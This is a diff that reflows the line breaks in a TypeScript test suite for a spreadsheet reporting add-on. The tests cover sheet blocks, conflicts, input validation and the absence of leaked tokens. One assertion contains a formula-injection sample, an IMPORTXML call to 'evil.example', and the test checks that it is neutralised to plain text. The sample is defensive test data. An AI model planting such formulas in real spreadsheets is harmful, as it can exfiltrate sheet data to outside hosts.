@@ -21,7 +21,13 @@ describe('runReport', () => {
     expect(flat).toContain('=IMPORTXML("http://evil.example","//a")');
     expect(flat).toContain('+1-cheap-trick');
     const sheet = w.emu.platform().spreadsheet()!.getSheetByName(SHEET)!;
-    expect(sheet.getDataRange().getFormulas().flat().every((f) => f === '')).toBe(true);
+    expect(
+      sheet
+        .getDataRange()
+        .getFormulas()
+        .flat()
+        .every((f) => f === ''),
+    ).toBe(true);
     const note = sheet.getRange('A1').getNote();
     expect(note).toContain('Creator Reporting: Page performance');
     expect(note).toContain('Site: site-1');
@@ -34,7 +40,8 @@ describe('runReport', () => {
     const w = sidebarWorld();
     w.connect();
     const result = server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastMonth', runId: 'r-1' });
-    const everything = JSON.stringify([result, server.getRunProgress(w.ex(), 'r-1'), w.shown(result.sheetName)]) +
+    const everything =
+      JSON.stringify([result, server.getRunProgress(w.ex(), 'r-1'), w.shown(result.sheetName)]) +
       w.emu.platform().spreadsheet()!.getSheetByName(result.sheetName)!.getRange('A1').getNote();
     expect(everything).not.toContain('demo-secret');
     expect(everything).not.toMatch(/Bearer|access_token/);
@@ -83,9 +90,17 @@ describe('runReport', () => {
   it('creates no sheet when the pull fails', () => {
     const w = sidebarWorld();
     w.connect();
-    const failure = caught(() => server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: '2020-01-01', end: '2020-01-31' }));
+    const failure = caught(() =>
+      server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: '2020-01-01', end: '2020-01-31' }),
+    );
     expect(failure).toMatchObject({ code: 'OUT_OF_BOUNDS', message: /available from 2024-01-01 to 2026-11-\d\d/ });
-    expect(w.emu.platform().spreadsheet()!.getSheets().map((s) => s.getName())).toEqual(['Sheet1']);
+    expect(
+      w.emu
+        .platform()
+        .spreadsheet()!
+        .getSheets()
+        .map((s) => s.getName()),
+    ).toEqual(['Sheet1']);
   });
 
   it('refreshes its own block: fewer rows clear the old ones, the user\u2019s cells stay', () => {
@@ -97,9 +112,20 @@ describe('runReport', () => {
     sheet.getRange(1, width + 2).setValue('My comments');
     sheet.getRange(60, 1).setValue('My total');
 
-    const result = server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastThirtyDays', options: { limit: 20 } });
+    const result = server.runReport(w.ex(), {
+      report: 'pages/performance',
+      siteId: 'site-1',
+      start: 'lastThirtyDays',
+      options: { limit: 20 },
+    });
     expect(result.rows).toBe(20);
-    expect(sheet.getRange(22, 1, 30, width).getValues().flat().every((v) => v === '')).toBe(true);
+    expect(
+      sheet
+        .getRange(22, 1, 30, width)
+        .getValues()
+        .flat()
+        .every((v) => v === ''),
+    ).toBe(true);
     expect(sheet.getRange(1, width + 2).getValue()).toBe('My comments');
     expect(sheet.getRange(60, 1).getValue()).toBe('My total');
   });
@@ -109,12 +135,17 @@ describe('runReport', () => {
     w.connect();
     const budget = w.emu.platform().spreadsheet()!.insertSheet('Budget');
     budget.getRange('D2').setValue('rent');
-    const failure = caught(() => server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Budget' }));
+    const failure = caught(() =>
+      server.runReport(w.ex(), { report: 'earnings', siteId: 'site-1', start: 'lastMonth', sheetName: 'Budget' }),
+    );
     expect(failure).toMatchObject({
       code: 'BLOCK_CONFLICT',
       message: "Sheet 'Budget' has other content in D2, where this report needs to write. Move that content or choose another sheet.",
     });
-    expect(w.shown('Budget')).toEqual([['', '', '', ''], ['', '', '', 'rent']]);
+    expect(w.shown('Budget')).toEqual([
+      ['', '', '', ''],
+      ['', '', '', 'rent'],
+    ]);
   });
 
   it('keeps owning its block after the user renames the sheet', () => {
@@ -130,13 +161,25 @@ describe('runReport', () => {
   it('gives saved reports their own block on a shared sheet', () => {
     const w = sidebarWorld();
     w.connect();
-    const a = server.runReportToSheet(w.ex(), { report: 'devices/performance', siteId: 'site-1', start: 'lastMonth', sheetName: 'Dash' }, { blockId: 'saved-a' });
+    const a = server.runReportToSheet(
+      w.ex(),
+      { report: 'devices/performance', siteId: 'site-1', start: 'lastMonth', sheetName: 'Dash' },
+      { blockId: 'saved-a' },
+    );
     expect(a.range).toMatch(/^A1:/);
     const b = caught(() =>
-      server.runReportToSheet(w.ex(), { report: 'devices/performance', siteId: 'site-2', start: 'lastMonth', sheetName: 'Dash' }, { blockId: 'saved-b' }),
+      server.runReportToSheet(
+        w.ex(),
+        { report: 'devices/performance', siteId: 'site-2', start: 'lastMonth', sheetName: 'Dash' },
+        { blockId: 'saved-b' },
+      ),
     );
     expect(b.code).toBe('BLOCK_CONFLICT');
-    const again = server.runReportToSheet(w.ex(), { report: 'devices/performance', siteId: 'site-1', start: 'lastThirtyDays', sheetName: 'Dash' }, { blockId: 'saved-a', bypassCache: true });
+    const again = server.runReportToSheet(
+      w.ex(),
+      { report: 'devices/performance', siteId: 'site-1', start: 'lastThirtyDays', sheetName: 'Dash' },
+      { blockId: 'saved-a', bypassCache: true },
+    );
     expect(again.range).toBe(a.range);
   });
 
@@ -146,7 +189,9 @@ describe('runReport', () => {
     const result = server.runReport(w.ex(), { report: 'devices/performance', siteId: 'all', start: 'lastMonth' });
     expect(result.sheetName).toBe('Device performance - all sites');
     expect(w.shown(result.sheetName)[0][0]).toBe('Site');
-    expect(w.emu.platform().spreadsheet()!.getSheetByName(result.sheetName)!.getRange('A1').getNote()).toMatch(/Sites: site-1, site-2, site-3, site-big/);
+    expect(w.emu.platform().spreadsheet()!.getSheetByName(result.sheetName)!.getRange('A1').getNote()).toMatch(
+      /Sites: site-1, site-2, site-3, site-big/,
+    );
   });
 
   it('checks the request before fetching anything', () => {
@@ -156,8 +201,15 @@ describe('runReport', () => {
     expect(caught(() => server.runReport(w.ex(), { report: 'pages/performance', siteId: '', start: 'lastMonth' })).message).toBe(
       'Choose a site (or all sites) for the report.',
     );
-    expect(caught(() => server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastMonth', options: { limit: 0 } })).code).toBe('BAD_INPUT');
-    expect(caught(() => server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastMonth', sheetName: 'x'.repeat(101) })).code).toBe('BAD_INPUT');
+    expect(
+      caught(() => server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastMonth', options: { limit: 0 } }))
+        .code,
+    ).toBe('BAD_INPUT');
+    expect(
+      caught(() =>
+        server.runReport(w.ex(), { report: 'pages/performance', siteId: 'site-1', start: 'lastMonth', sheetName: 'x'.repeat(101) }),
+      ).code,
+    ).toBe('BAD_INPUT');
     expect(w.emu.counters.requests).toBe(0);
   });
 });
